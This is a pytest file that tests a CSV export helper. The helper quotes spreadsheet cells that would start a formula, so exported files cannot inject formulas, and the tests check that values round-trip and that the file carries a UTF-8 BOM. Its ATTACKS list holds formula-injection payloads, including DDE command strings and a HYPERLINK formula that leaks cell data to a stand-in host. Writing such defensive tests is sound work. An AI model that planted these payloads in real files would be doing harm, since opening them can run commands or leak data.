"""Exported CSV opens safely in a spreadsheet: UTF-8 with a byte-order mark, and text that
would run as a formula quoted; our import takes exactly that quote off again."""

from __future__ import annotations

import codecs
import csv
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studio.csv_cells import FORMULA_STARTS, from_spreadsheet_safe, spreadsheet_safe
from studio.csvfile import write_csv_atomically

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_text_is_quoted(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Zoë", "Zoë"),
        ("'quoted'", "'quoted'"),  # a quote before plain text: no formula, kept as is
        ("'=1+1", "''=1+1"),  # a quote before a formula: one more, so the import keeps it
        ("''@x", "'''@x"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),  # a negative amount stays a number
        ("-7", "-7"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        ("+441632960961", "'+441632960961"),  # shown as text, not 4.41633E+11
        ("", ""),
        ("'", "'"),
    ],
)
def test_what_is_quoted_and_what_is_not(value: str, written: str) -> None:
    assert spreadsheet_safe(value) == written
    assert from_spreadsheet_safe(written) == value


def test_numbers_are_never_quoted() -> None:
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(Decimal("-12.50")) == Decimal("-12.50")
    assert spreadsheet_safe(None) is None


@given(
    st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", "0", "1", ".", "a", "ë"]), max_size=8)
)
def test_every_text_round_trips_and_none_starts_a_formula(value: str) -> None:
    written = spreadsheet_safe(value)
    assert isinstance(written, str)
    assert from_spreadsheet_safe(written) == value
    if written[:1] in FORMULA_STARTS:  # only a plain negative number may start so
        assert written.startswith("-")
        assert Decimal(written).is_finite()


@given(st.text())
def test_any_text_round_trips(value: str) -> None:
    written = spreadsheet_safe(value)
    assert isinstance(written, str)
    assert from_spreadsheet_safe(written) == value


def test_an_export_starts_with_the_byte_order_mark_and_quotes_its_cells(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    rows = [[1, "Zoë", '=HYPERLINK("x")', Decimal("-2.50")], [2, "'=a", "plain", "-1"]]
    assert write_csv_atomically(target, ["id", "name", "note", "amount"], rows) == 2
    raw = target.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    assert "Zoë".encode() in raw
    with target.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read == [
        ["id", "name", "note", "amount"],
        ["1", "Zoë", '\'=HYPERLINK("x")', "-2.50"],
        ["2", "''=a", "plain", "-1"],
    ]
